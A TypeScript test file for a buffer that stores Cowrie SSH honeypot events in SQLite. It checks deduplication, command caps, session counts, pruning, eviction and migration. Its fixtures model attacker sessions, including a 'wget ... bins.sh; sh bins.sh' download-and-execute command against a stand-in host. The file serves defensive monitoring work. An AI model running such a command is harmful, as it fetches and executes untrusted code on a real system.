import assert from "node:assert/strict";
import { DatabaseSync } from "node:sqlite";
import type { Limits } from "../../src/buffer/intake.ts";
import { MIGRATIONS } from "../../src/buffer/sqlite/schema.ts";
import type { Buffer } from "../../src/buffer/buffer.ts";
import { SqliteBuffer } from "../../src/buffer/sqlite/sqlite_buffer.ts";
import { decide } from "../../src/intake/decide.ts";
import { itemsOf, timesOf } from "../../src/session_evidence.ts";
import { NOW, record, sceneLines, sessionRules } from "../cowrie/session_rig.ts";
import { tempFolder } from "../support/temp.ts";
import { eachEngine, onSqlite } from "./sqlite_rig.ts";
import { DAY, KEEP, MINUTE, snapshotAll } from "./sqlite_rig.ts";

const rules = sessionRules();
const of = (data: Record<string, unknown>) => decide(record(data), rules, NOW);
const command = (input: string, changes: Record<string, unknown> = {}) =>
  of({ eventid: "cowrie.command.input", input, ...changes });

function accept(
  buffer: Buffer,
  decisions: readonly ReturnType<typeof of>[],
  { now = NOW, ...limits }: Partial<Limits> & { now?: number } = {},
) {
  return buffer.intake.accept(decisions, { maxUsernames: 100, ...limits }, now);
}

async function sessionOf(buffer: Buffer, now = NOW) {
  const [seen] = await snapshotAll(buffer, now);
  return seen!.snapshot.record.session!;
}

eachEngine("accept() counts each alert of a session once, and says so", async (open) => {
  using buffer = open();
  const alert = command("uname -a");
  assert.equal((await accept(buffer, [alert, alert])).accepted, 1);
  assert.equal((await accept(buffer, [alert])).duplicate, 1);
  assert.deepEqual(itemsOf(await sessionOf(buffer), "command").map(({ count }) => count), [1]);
  assert.equal((await accept(buffer, [alert])).duplicate, 1);
  assert.equal((await buffer.views.status()).pendingAttacks, 0);
});

eachEngine(
  "accept() keeps so many different commands of a source, and counts the rest",
  async (open) => {
    using buffer = open();
    const limits = { sessions: { maxCommands: 20, maxItems: 3 } };
    for (let batch = 0; batch < 5; batch++) {
      const many = Array.from({ length: 1_000 }, (_, n) => command(`echo ${batch} ${n}`));
      await accept(buffer, [...many, command("uname -a")], limits);
    }
    const versions = Array.from(
      { length: 10 },
      (_, n) => of({ eventid: "cowrie.client.version", version: `SSH-2.0-${n}` }),
    );
    await accept(buffer, versions, limits);
    const session = await sessionOf(buffer);
    assert.equal(itemsOf(session, "command").length, 20);
    assert.equal(timesOf(session, "command"), 5_005);
    assert.equal(itemsOf(session, "version").length, 3);
    assert.equal(timesOf(session, "version"), 10);
  },
);

eachEngine(
  "a record keeps the most frequent commands across snapshots, and counts the rest",
  async (open) => {
    using buffer = open();
    for (let at = 0; at < 3; at++) {
      const many = Array.from({ length: 40 }, (_, n) => command(`echo ${at} ${n}`));
      await accept(buffer, [...many, command("uname -a")]);
      await snapshotAll(buffer, NOW);
    }
    await accept(buffer, [command("id")]);
    const session = await sessionOf(buffer);
    assert.equal(itemsOf(session, "command")[0]?.value, "uname -a");
    assert.equal(itemsOf(session, "command").length, 50);
    assert.equal(timesOf(session, "command"), 124);
  },
);

eachEngine(
  "accept() counts sessions beyond a thousand of one source, and keeps no row of them",
  async (open) => {
    using buffer = open();
    const connects = Array.from(
      { length: 1_500 },
      (_, n) => of({ eventid: "cowrie.session.connect", session: `a${n}` }),
    );
    await accept(buffer, connects);
    await accept(buffer, [
      of({ eventid: "cowrie.session.closed", session: "a1400", duration_ms: "77" }),
    ]);
    const [seen] = await snapshotAll(buffer, NOW);
    assert.equal(seen?.attack.session?.rows.length, 1_000);
    assert.deepEqual(seen?.snapshot.record.session?.totals, {
      ...{ sessions: 1_500, loggedIn: 0, longestMs: 77 },
    });
  },
);

eachEngine(
  "a session that goes on counts once, however many snapshots are taken of it",
  async (open) => {
    using buffer = open();
    await accept(buffer, [of({ eventid: "cowrie.session.connect" })]);
    await snapshotAll(buffer, NOW);
    await accept(buffer, [of({ eventid: "cowrie.login.success", username: "root" })]);
    await snapshotAll(buffer, NOW);
    const late = NOW + 3 * 60 * MINUTE;
    await accept(buffer, [of({ eventid: "cowrie.session.closed", duration_ms: "9" })], {
      now: late,
    });
    const once = { sessions: 1, loggedIn: 1, longestMs: 9 };
    assert.deepEqual((await sessionOf(buffer, late)).totals, once);
    // It is over, and another one with its id is another one.
    await buffer.retention.prune(KEEP, late + 2 * 60 * MINUTE);
    const again = late + 2 * 60 * MINUTE;
    await accept(buffer, [of({ eventid: "cowrie.session.connect" })], { now: again });
    assert.deepEqual((await sessionOf(buffer, again)).totals, { ...once, sessions: 2 });
  },
);

eachEngine("an id that comes again after a restart stands for two sessions", async (open) => {
  using buffer = open();
  const connect = () => of({ eventid: "cowrie.session.connect" });
  const login = () => of({ eventid: "cowrie.login.success", username: "root" });
  await accept(buffer, [connect(), login(), connect(), login()]);
  assert.deepEqual((await sessionOf(buffer)).totals, { sessions: 2, loggedIn: 2, longestMs: 0 });
});

Deno.test("prune() forgets the sessions of a source with its record", async () => {
  using folder = tempFolder();
  const path = folder.file("buffer.db");
  using buffer = new SqliteBuffer(path, NOW);
  await accept(buffer, sceneLines.wazuh.map((line) => decide(JSON.parse(line), rules, NOW)));
  await snapshotAll(buffer, NOW);
  await buffer.retention.prune(KEEP, NOW + 2 * DAY);
  const rows = (table: string) => {
    const db = new DatabaseSync(path, { readOnly: true });
    try {
      return Number(db.prepare(`SELECT count(*) AS n FROM ${table}`).get()?.n);
    } finally {
      db.close();
    }
  };
  assert.deepEqual([rows("attack_session"), rows("source_session_item") > 10], [0, true]);
  await buffer.retention.prune(KEEP, NOW + 31 * DAY);
  const tables = ["attack_session", "attack_session_item", "attack_session_total"];
  for (const table of [...tables, "source_session_item", "source_record"]) {
    assert.equal(rows(table), 0, table);
  }
});

onSqlite(
  "accept() turns rare commands into a count where the buffer is at its limit",
  async (open) => {
    using buffer = open();
    const typed = (n: number) => command(`echo ${n} ${"x".repeat(400)}`);
    for (let source = 0; source < 20; source++) {
      const many = Array.from({ length: 40 }, (_, n) => n).map((n) => {
        return command(`echo ${n} ${"x".repeat(400)}`, { src_ip: `198.51.100.${source}` });
      });
      await accept(buffer, many);
      if (source === 9) await snapshotAll(buffer, NOW);
    }
    const { bytes } = await buffer.views.status();
    for (let n = 0; n < 5; n++) await accept(buffer, [typed(n)], { maxBytes: bytes / 2 });
    const status = await buffer.views.status();
    assert.equal(status.evicted.commands, 20 * 30);
    assert.ok(status.bytes < bytes * 0.7, `${status.bytes} of ${bytes}`);
    await accept(buffer, [command("id", { src_ip: "198.51.100.3" })]);
    const records = (await snapshotAll(buffer, NOW)).map(({ snapshot }) => snapshot.record);
    assert.equal(records.length, 12);
    for (const { session, sourceIp } of records) {
      const all = sourceIp === "198.51.100.3" ? 41 : sourceIp === "198.51.100.30" ? 5 : 40;
      assert.equal(timesOf(session!, "command"), all, sourceIp);
    }
  },
);

onSqlite(
  "a typical session costs the buffer at most 1.2 KiB, before and after its snapshot",
  async (open) => {
    const hash = (n: number) => n.toString(16).padStart(8, "0").repeat(8);
    const size = async (isWhole: boolean, isTaken: boolean) => {
      using buffer = open();
      const { bytes } = await buffer.views.status();
      for (let n = 0; n < 1_000; n += 50) {
        const batch = Array.from({ length: 50 }, (_, k) => (n + k) * 389 % 1_000).flatMap(
          (source) => {
            const one = (event: string, data: Record<string, unknown> = {}) =>
              of({
                ...{ eventid: `cowrie.${event}`, src_ip: `82.7.${source >> 8}.${source & 255}` },
                ...{ session: hash(source).slice(4, 16), ...data },
              });
            const login = one("login.success", { username: "root" });
            if (!isWhole) return [login];
            const url = `http://203.0.113.${source % 250}/bins.sh`;
            return [
              ...[one("session.connect"), login, one("session.closed", { duration_ms: "12345" })],
              one("client.version", { version: "SSH-2.0-libssh_0.9.6" }),
              one("client.kex", { hassh: "4c94058d5e9e31659879f79fd5b46084" }),
              one("command.input", { input: "uname -s -v -n -r -m" }),
              one("command.input", { input: "cat /proc/cpuinfo | grep name | wc -l" }),
              one("command.input", { input: `cd /tmp; wget ${url}; sh bins.sh` }),
              one("session.file_download", { url, shasum: hash(source) }),
            ];
          },
        );
        await accept(buffer, batch);
      }
      // Reports are deleted when they are delivered.
      if (isTaken) await snapshotAll(buffer, NOW, []);
      return ((await buffer.views.status()).bytes - bytes) / 1_000;
    };
    for (const isTaken of [false, true]) {
      const cost = await size(true, isTaken) - await size(false, isTaken);
      assert.ok(cost > 300 && cost <= 1.2 * 1024, `${cost} bytes`);
    }
  },
);

Deno.test("a buffer from before sessions is opened with all that it holds", async () => {
  using folder = tempFolder();
  const path = folder.file("buffer.db");
  const before = MIGRATIONS.findIndex((migration) => migration.includes("attack_session "));
  const old = new DatabaseSync(path);
  for (const migration of MIGRATIONS.slice(0, before)) old.exec(migration);
  old.exec(`PRAGMA user_version = ${before}`);
  old.exec(`INSERT INTO source_record (source_ip, event_uuid, publisher, opened_on, first_seen,
      last_seen, alerts, pam, sshd, connect, attempts, compromised_at, retracted_at, reports,
      detail, snapshot_at)
    VALUES ('198.51.100.30', 'fa04dc62-89e1-5024-b207-249034a5af55', 'wazuh', '2026-11-29',
      ${NOW}, ${NOW}, 1, 0, 1, 0, 1, NULL, NULL, 1,
      '{"services":["ssh"],"usernames":{},"furtherUsernames":0,"sensors":[],"techniques":[]}',
      ${NOW})`);
  old.close();
  using buffer = new SqliteBuffer(path, NOW);
  await accept(buffer, [command("id")]);
  const [seen] = await snapshotAll(buffer, NOW);
  assert.equal(seen?.record?.session, undefined);
  assert.equal(seen?.snapshot.record.attempts, 1);
  assert.equal(timesOf(seen!.snapshot.record.session!, "command"), 1);
});
